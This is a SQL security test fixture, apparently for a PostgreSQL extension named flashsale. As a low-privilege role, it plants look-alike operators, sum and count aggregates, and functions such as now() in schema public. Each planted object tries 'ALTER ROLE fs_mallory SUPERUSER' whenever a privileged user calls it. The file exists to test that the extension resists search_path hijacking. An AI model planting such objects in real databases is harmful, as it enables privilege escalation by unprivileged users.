-- Plants, as the role fs_mallory (which may create objects in schema public, as
-- a database owner may), an operator in public for every signature
-- flashsale's internal queries use and their neighbours, and every function
-- they call.  Each planted object runs public.planted(): a WARNING, a row in
-- public.hijack, and an attempt to make fs_mallory a superuser (which works
-- when a superuser runs it).  Read by sql/security.sql and test/t/100_security.pl.
CREATE ROLE fs_mallory;
GRANT CREATE ON SCHEMA public TO fs_mallory;
CREATE TABLE public.hijack (who name, what text);
GRANT INSERT ON public.hijack TO PUBLIC;
SET ROLE fs_mallory;
CREATE FUNCTION public.planted(what text) RETURNS void LANGUAGE plpgsql AS $$
BEGIN
    RAISE WARNING 'planted % ran as %', what, current_user;
    INSERT INTO public.hijack VALUES (current_user, what);
    EXECUTE 'ALTER ROLE fs_mallory SUPERUSER';
EXCEPTION WHEN OTHERS THEN NULL;
END $$;
-- every operator signature flashsale's queries use, and their neighbours
DO $$
DECLARE
    o record;
    fn text;
BEGIN
    FOR o IN SELECT * FROM (VALUES
        ('-', 'bigint', 'numeric', 'numeric'), ('+', 'bigint', 'numeric', 'numeric'),
        ('-', 'bigint', 'bigint', 'bigint'), ('+', 'bigint', 'bigint', 'bigint'),
        ('-', 'bigint', 'integer', 'bigint'), ('-', 'integer', 'integer', 'integer'),
        ('%', 'bigint', 'integer', 'bigint'), ('/', 'bigint', 'integer', 'bigint'),
        ('<', 'integer', 'bigint', 'boolean'), ('>', 'bigint', 'integer', 'boolean'),
        ('=', 'bigint', 'bigint', 'boolean'), ('=', 'bigint', 'integer', 'boolean'),
        ('=', 'integer', 'integer', 'boolean'), ('=', 'xid8', 'xid8', 'boolean'))
        v(op, l, r, res)
    LOOP
        fn := 'planted_' || md5(o.op || o.l || o.r);
        EXECUTE format('CREATE FUNCTION public.%I(%s, %s) RETURNS %s LANGUAGE plpgsql AS '
                       '$f$ BEGIN PERFORM public.planted(%L); RETURN $1 OPERATOR(pg_catalog.%s) $2; END $f$',
                       fn, o.l, o.r, o.res, format('%s(%s, %s)', o.op, o.l, o.r), o.op);
        EXECUTE format('CREATE OPERATOR public.%s (LEFTARG = %s, RIGHTARG = %s, FUNCTION = public.%I)',
                       o.op, o.l, o.r, fn);
    END LOOP;
END $$;
-- and every function they call
CREATE FUNCTION public.planted_sum(numeric, bigint) RETURNS numeric LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.planted('sum(bigint)'); RETURN coalesce($1, 0) OPERATOR(pg_catalog.+) $2; END $$;
CREATE AGGREGATE public.sum(bigint) (sfunc = public.planted_sum, stype = numeric);
CREATE FUNCTION public.planted_count(bigint) RETURNS bigint LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.planted('count(*)'); RETURN $1 OPERATOR(pg_catalog.+) 1; END $$;
CREATE AGGREGATE public.count(*) (sfunc = public.planted_count, stype = bigint, initcond = '0');
CREATE FUNCTION public.now() RETURNS timestamptz LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.planted('now()'); RETURN pg_catalog.now(); END $$;
CREATE FUNCTION public.unnest(bigint[]) RETURNS SETOF bigint LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.planted('unnest(bigint[])'); RETURN QUERY SELECT pg_catalog.unnest($1); END $$;
CREATE FUNCTION public.generate_series(integer, integer) RETURNS SETOF integer LANGUAGE plpgsql AS
    $$ BEGIN PERFORM public.planted('generate_series(integer, integer)');
       RETURN QUERY SELECT pg_catalog.generate_series($1, $2); END $$;
RESET ROLE;
